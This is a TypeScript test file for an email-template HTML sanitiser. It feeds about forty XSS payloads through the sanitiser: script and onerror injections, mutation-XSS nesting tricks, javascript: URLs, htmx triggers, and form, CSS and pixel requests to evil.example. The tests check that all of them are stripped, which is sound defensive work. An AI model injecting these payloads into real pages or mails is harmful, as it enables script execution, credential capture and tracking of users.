import { composeMail } from './compose.ts';
import { sampleContent } from './sampleContent.ts';
import { sanitise } from './sanitise.ts';

/** Strings that made browsers, editors or other sanitisers do something (RELIABILITY §0.10, S10, S11). */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><path d="M0 0"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p data-hx-post="/invoices/1/paid" hx-trigger="load" data-hx-trigger="load">x</p>',
  '<button hx-get="/x">x</button>',
  '<form action="https://evil.example"><input name=password></form>',
  '<p style="background:url(https://evil.example/p.gif)" class="modal" id="main">x</p>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/invoices">x</a>',
  '<a href="https://good.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<figure data-trix-attachment=\'{"contentType":"text/html5","content":"<img src=x onerror=alert(1)>"}\'>x</figure>',
  '<div data-trix-mutable data-trix-content-type="application/json" contenteditable>x</div>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<p>a<<script>script>alert(1)</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p/onclick=alert(1)>x',
  '<a href="https://x.example/"" onmouseover="alert(1)">x</a>',
  '<p title=`"><img src=x onerror=alert(1)>`>',
];

const ALLOWED =
  /^<\/?(p|br|hr|h1|h2|h3|strong|em|u|s|ul|ol|li|blockquote|table|thead|tbody|tr|th|td)>$|^<a( href="(https?:\/\/|mailto:)[^"<>]*")?>$|^<\/a>$/;

/** Every tag in a text, as the plainest of readers finds them. */
const tagsIn = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];

test.each(ATTACKS)('%s leaves nothing but plain words', (attack) => {
  const clean = sanitise(attack);
  expect(tagsIn(clean).filter((tag) => !ALLOWED.test(tag))).toEqual([]);
  expect(sanitise(clean)).toBe(clean);
});

test('the same holds when they come as a value of a variable, or around one', () => {
  for (const attack of ATTACKS) {
    const content = { ...sampleContent('en', 'single'), contactName: attack, customer: { name: attack, code: attack } };
    const body = `<p>{{contact.name}} <a href="{{customer.code}}">x</a> <a href="https://x.example/{{customer.code}}">y</a></p>${attack}{{customer.name}}`;
    const { html } = composeMail({ subject: '{{customer.name}}', body }, content);
    const [, mail = ''] = /<div style="max-width:640px">\n([\s\S]*)<\/div>\n<\/body>/.exec(html) ?? [];
    expect([attack, tagsIn(mail).filter((tag) => !ALLOWED.test(tag))]).toEqual([attack, []]);
  }
});

test('a mail keeps what mails are made of, and words become what they mean', () => {
  const html =
    '<h2>Title</h2><p><b>bold</b> <i>slanted</i> <a href="mailto:a@b.example">write</a><br>line</p><ul><li>one</li></ul>';
  expect(sanitise(html)).toBe(
    '<h2>Title</h2><p><strong>bold</strong> <em>slanted</em> <a href="mailto:a@b.example">write</a><br>line</p><ul><li>one</li></ul>',
  );
});

test('variables and conditions stay as they were written', () => {
  const body =
    '<p>{{#if contact.name}}Dear {{contact.name}},{{else}}Hello,{{/if}}</p>\n{{#if company.iban}}<p>{{company.iban}}</p>{{/if}}\n{{{invoiceTable}}}';
  expect(sanitise(body)).toBe(body);
});

test('the product’s own table keeps its styles, wherever it stands, and a customer cannot ask for it', () => {
  const content = { ...sampleContent('en', 'grouped'), contactName: '{{{invoiceTable}}}' };
  const { html } = composeMail({ subject: 'x', body: '<p>{{contact.name}}</p><p>{{{invoiceTable}}}</p>' }, content);
  expect(html.match(/<table style="/g)).toHaveLength(1);
  expect(html).not.toContain('<p><table');
});
